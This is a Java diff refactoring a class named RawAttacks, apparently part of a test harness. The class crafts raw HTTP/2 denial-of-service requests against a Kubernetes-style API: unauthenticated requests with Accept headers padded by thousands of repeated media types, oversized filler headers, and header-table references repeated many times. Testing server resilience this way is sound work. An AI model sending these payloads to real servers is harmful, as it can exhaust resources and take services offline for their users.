@@ -68,7 +68,11 @@ final class RawAttacks {
                     open,
                     RawHttp2.request("POST", "/api/v1/nodes", Prey.HEAVY));
         } else if (kind == Frames.LONG_ACCEPT) {
-            connection.frame(RawHttp2.HEADERS, RawHttp2.END_HEADERS | RawHttp2.END_STREAM, open, accepted());
+            connection.frame(
+                    RawHttp2.HEADERS,
+                    RawHttp2.END_HEADERS | RawHttp2.END_STREAM,
+                    open,
+                    accepting(entry("accept", "application/vnd.kubernetes.protobuf" + ",a".repeat(1_980))));
         }
         ByteArrayOutputStream filler = new ByteArrayOutputStream();
         RawHttp2.header(filler, "x", "y".repeat(8_000));
@@ -99,7 +103,7 @@ final class RawAttacks {
                                         RawHttp2.HEADERS,
                                         RawHttp2.END_HEADERS | RawHttp2.END_STREAM,
                                         connection.nextStream(),
-                                        accepting(15));
+                                        accepting(latest(15)));
                         });
             }
             connection.write(batch.toByteArray());
@@ -136,18 +140,11 @@ final class RawAttacks {
         return block;
     }
 
-    private static byte[] accepted() {
+    /** A request without a credential with those Accept headers. */
+    private static byte[] accepting(byte[] headers) {
         ByteArrayOutputStream block = new ByteArrayOutputStream();
         block.writeBytes(RawHttp2.request("GET", "/", ""));
-        block.writeBytes(entry("accept", "application/vnd.kubernetes.protobuf" + ",a".repeat(1_980)));
-        return block.toByteArray();
-    }
-
-    /** A request without a credential whose Accept header is the latest of the table, that many times: types by the ten thousand. */
-    private static byte[] accepting(int times) {
-        ByteArrayOutputStream block = new ByteArrayOutputStream();
-        block.writeBytes(RawHttp2.request("GET", "/", ""));
-        block.writeBytes(latest(times));
+        block.writeBytes(headers);
         return block.toByteArray();
     }
 
